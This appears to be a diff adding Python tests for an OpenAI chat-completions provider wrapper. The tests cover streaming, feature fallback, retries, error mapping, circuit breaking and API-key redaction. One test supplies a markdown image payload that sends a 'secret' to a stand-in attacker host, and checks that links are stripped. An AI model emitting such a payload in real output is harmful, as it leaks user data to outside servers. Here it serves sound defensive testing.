@@ -1,0 +1,296 @@
+import asyncio
+import json
+import time
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from ai_service.errors import ModelMisconfigured, ModelRefused, ModelTruncated, ModelUnavailable
+from ai_service.providers.base import Request
+from ai_service.providers.openai.provider import OpenAiProvider
+from assistant.contracts.problems import DomainError
+from assistant.dialogue.problems import problem_of
+from assistant.testing.chat_completions import Body, Breaks, ChatServer, Fails, Hangs, Says
+
+Make = Callable[..., OpenAiProvider]
+
+REPLY = json.dumps(
+    {
+        "message_markdown": "Voici **trois cibles** pour votre lancement, à des stades différents.",
+        "actions": [],
+        "entities_to_create": [
+            {"kind": "cible", "label": label, "description": "d", "maturite": "awareness"}
+            for label in ("DSI d’ETI", "RSSI de cliniques", "Dirigeants de PME")
+        ],
+        "errors": [],
+    },
+    ensure_ascii=False,
+)
+
+
+def drop(_text: str) -> None:
+    """The text is not looked at."""
+
+
+class TestAReply:
+    async def test_comes_back_to_the_letter_with_its_audit(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Says(REPLY))
+        raw = await provider().reply(suggestion, drop)
+        assert raw.text == REPLY
+        assert (raw.provider, raw.model, raw.prompt_version) == ("openai", "scripted-1", "suggest.cible.fr@1")
+        assert (raw.prompt_tokens, raw.completion_tokens) == (812, 345)
+        assert raw.milliseconds >= 0
+
+    async def test_is_asked_for_with_a_strict_schema_and_streamed(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Says(REPLY))
+        await provider().reply(suggestion, drop)
+        asked = server.requests[0]
+        assert asked["stream"] is True
+        assert asked["response_format"]["type"] == "json_schema"
+        assert asked["response_format"]["json_schema"]["strict"] is True
+        assert next(iter(asked["response_format"]["json_schema"]["schema"]["properties"])) == "message_markdown"
+
+    async def test_streams_its_markdown_alone_while_the_json_arrives(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Says(REPLY, pieces=80, pause=0.015))
+        seen: list[tuple[str, float]] = []
+        await provider().reply(suggestion, lambda text: seen.append((text, time.monotonic())))
+        ended = time.monotonic()
+        assert "".join(text for text, _ in seen) == json.loads(REPLY)["message_markdown"]
+        assert len(seen) > 2
+        assert seen[0][1] < ended - 0.1
+
+    async def test_streams_markdown_that_can_hold_no_link(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        hostile = json.dumps(
+            {"message_markdown": "Voyez ![x](https://evil.example/?q=secret) et <img src=x>", "entities_to_create": []}
+        )
+        server.plays(Says(hostile, pieces=30))
+        seen: list[str] = []
+        await provider().reply(suggestion, seen.append)
+        assert "](" not in "".join(seen)
+        assert "://" not in "".join(seen)
+
+    async def test_comes_whole_from_a_server_that_cannot_stream(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.streams = False
+        server.plays(Says(REPLY))
+        seen: list[str] = []
+        raw = await provider().reply(suggestion, seen.append)
+        assert raw.text == REPLY
+        assert "".join(seen) == json.loads(REPLY)["message_markdown"]
+
+
+class TestAServerThatKnowsLess:
+    @pytest.mark.parametrize(
+        ("refuses", "accepted"),
+        [
+            (frozenset({"stream_options"}), {"stream": True, "format": "json_schema"}),
+            (frozenset({"json_schema"}), {"stream": True, "format": "json_object"}),
+            (frozenset({"json_schema", "json_object"}), {"stream": True, "format": None}),
+            (frozenset({"response_format"}), {"stream": True, "format": None}),
+            (frozenset({"stream"}), {"stream": None, "format": "json_schema"}),
+            (frozenset({"stream", "response_format"}), {"stream": None, "format": None}),
+        ],
+    )
+    async def test_is_asked_in_the_form_it_accepts_and_that_is_remembered(
+        self, provider: Make, server: ChatServer, suggestion: Request, refuses: frozenset[str], accepted: dict[str, Any]
+    ) -> None:
+        server.refuses = refuses
+        server.plays(Says(REPLY))
+        asking = provider()
+        assert (await asking.reply(suggestion, drop)).text == REPLY
+        server.plays(Says(REPLY))
+        assert (await asking.reply(suggestion, drop)).text == REPLY
+        assert len(server.requests) == 1
+        asked = server.requests[0]
+        assert asked.get("stream") == accepted["stream"]
+        assert (asked.get("response_format") or {}).get("type") == accepted["format"]
+
+    async def test_is_told_the_schema_in_words_without_structured_output(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.refuses = frozenset({"response_format"})
+        server.plays(Says(REPLY))
+        await provider().reply(suggestion, drop)
+        assert '"additionalProperties": false' in server.requests[-1]["messages"][0]["content"]
+
+    async def test_is_not_asked_worse_for_ever_after_one_passing_failure(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Fails(500), Says(REPLY))
+        asking = provider()
+        await asking.reply(suggestion, drop)
+        assert server.requests[-1]["response_format"]["type"] == "json_schema"
+
+
+class TestPassingFailures:
+    @pytest.mark.parametrize(
+        "failure",
+        [
+            Fails(408),
+            Fails(409),
+            Fails(429, headers={"Retry-After": "0.05"}),
+            Fails(500),
+            Fails(503),
+            Breaks(REPLY),
+            Body("<html>bad gateway</html>", "text/html"),
+            Body('{"choices": []}'),
+            Body("data: {not json\n\n", "text/event-stream"),
+            Says(""),
+        ],
+        ids=lambda failure: f"{type(failure).__name__}-{getattr(failure, 'status', '')}",
+    )
+    async def test_are_tried_again(self, provider: Make, server: ChatServer, suggestion: Request, failure: Any) -> None:
+        server.plays(failure, Says(REPLY))
+        assert (await provider().reply(suggestion, drop)).text == REPLY
+        assert len(server.requests) == 2
+
+    async def test_wait_as_long_as_the_server_asks(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Fails(429, headers={"Retry-After": "0.4"}), Says(REPLY))
+        started = time.monotonic()
+        await provider().reply(suggestion, drop)
+        assert time.monotonic() - started >= 0.4
+
+    async def test_end_as_unavailable_when_they_last(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Fails(500))
+        with pytest.raises(ModelUnavailable):
+            await provider(tries=3).reply(suggestion, drop)
+        assert len(server.requests) == 3
+
+    async def test_end_at_once_when_the_server_asks_for_more_than_the_deadline(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Fails(429, headers={"Retry-After": "120"}))
+        started = time.monotonic()
+        with pytest.raises(ModelUnavailable) as refused:
+            await provider().reply(suggestion, drop)
+        assert time.monotonic() - started < 1
+        assert problem_of(refused.value, "fr").retry_after == 120
+
+    async def test_hang_no_longer_than_the_timeout_of_a_call(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Hangs(), Says(REPLY))
+        assert (await provider().reply(suggestion, drop)).text == REPLY
+
+    async def test_hang_no_longer_than_the_deadline(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Hangs())
+        started = time.monotonic()
+        with pytest.raises(ModelUnavailable):
+            await provider(deadline=0.3).reply(suggestion, drop)
+        assert time.monotonic() - started < 0.8
+
+    async def test_never_show_the_beginning_of_a_text_twice(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Breaks(REPLY, pieces=10), Says(REPLY, pieces=20))
+        seen: list[str] = []
+        await provider().reply(suggestion, seen.append)
+        assert json.loads(REPLY)["message_markdown"].startswith("".join(seen))
+
+
+class TestPermanentRefusals:
+    @pytest.mark.parametrize(
+        ("failure", "setting"),
+        [
+            (Fails(401, "invalid_api_key", "Incorrect API key provided: sk-canary-7f3a"), "OPENAI_API_KEY"),
+            (Fails(403), "OPENAI_API_KEY"),
+            (Fails(429, "insufficient_quota"), "OPENAI_API_KEY"),
+            (Fails(404, "model_not_found"), "OPENAI_MODEL"),
+            (Fails(404), "OPENAI_BASE_URL"),
+            (Fails(400, "context_length_exceeded"), "OPENAI_MODEL"),
+            (Fails(400), "OPENAI_MODEL"),
+            (Fails(422), "OPENAI_MODEL"),
+        ],
+    )
+    @pytest.mark.parametrize("locale", ["fr", "en"])
+    async def test_name_the_setting_and_never_the_key(
+        self, provider: Make, server: ChatServer, failure: Fails, setting: str, locale: Any
+    ) -> None:
+        server.plays(failure)
+        with pytest.raises(ModelMisconfigured) as refused:
+            await provider().reply(Request(task="plan", locale=locale), drop)
+        shown = problem_of(refused.value, locale)
+        assert shown.status == 502
+        assert setting in shown.detail
+        assert "sk-" not in shown.model_dump_json()
+        assert "sk-" not in str(refused.value)
+
+    async def test_are_not_tried_again(self, provider: Make, server: ChatServer, suggestion: Request) -> None:
+        server.plays(Fails(429, "insufficient_quota"))
+        with pytest.raises(ModelMisconfigured):
+            await provider().reply(suggestion, drop)
+        assert len(server.requests) == 1
+
+
+class TestRepliesThatStopShort:
+    @pytest.mark.parametrize(
+        ("step", "error"),
+        [
+            (Says(REPLY[:80], finish="length"), ModelTruncated),
+            (Says("", refusal="I cannot help with that."), ModelRefused),
+            (Says(REPLY[:20], finish="content_filter"), ModelRefused),
+        ],
+    )
+    @pytest.mark.parametrize("streams", [True, False])
+    async def test_have_their_own_codes_and_are_not_paid_for_again(
+        self,
+        provider: Make,
+        server: ChatServer,
+        suggestion: Request,
+        step: Says,
+        error: type[DomainError],
+        streams: bool,
+    ) -> None:
+        server.streams = streams
+        server.plays(step)
+        with pytest.raises(error):
+            await provider().reply(suggestion, drop)
+        assert len(server.requests) == 1
+
+
+class TestACircuitThatOpened:
+    async def test_leaves_the_server_alone_and_says_for_how_long(
+        self, provider: Make, server: ChatServer, suggestion: Request
+    ) -> None:
+        server.plays(Fails(500))
+        asking = provider(tries=5)
+        with pytest.raises(ModelUnavailable):
+            await asking.reply(suggestion, drop)
+        server.plays(Says(REPLY))
+        with pytest.raises(ModelUnavailable) as refused:
+            await asking.reply(suggestion, drop)
+        assert server.requests == []
+        assert problem_of(refused.value, "fr").retry_after == 30
+
+
+class TestConcurrency:
+    async def test_is_limited(self, provider: Make, server: ChatServer, suggestion: Request) -> None:
+        server.plays(Says(REPLY, pieces=4, pause=0.05))
+        asking = provider(concurrency=1)
+        started = time.monotonic()
+        await asyncio.gather(*(asking.reply(suggestion, drop) for _ in range(3)))
+        assert time.monotonic() - started >= 0.6
+
+
+class TestTheKey:
+    async def test_goes_to_the_server_alone(self, provider: Make, server: ChatServer, suggestion: Request) -> None:
+        server.plays(Says(REPLY))
+        await provider().reply(suggestion, drop)
+        assert server.keys == ["Bearer sk-canary-7f3a"]
+        assert "sk-canary" not in json.dumps(server.requests)
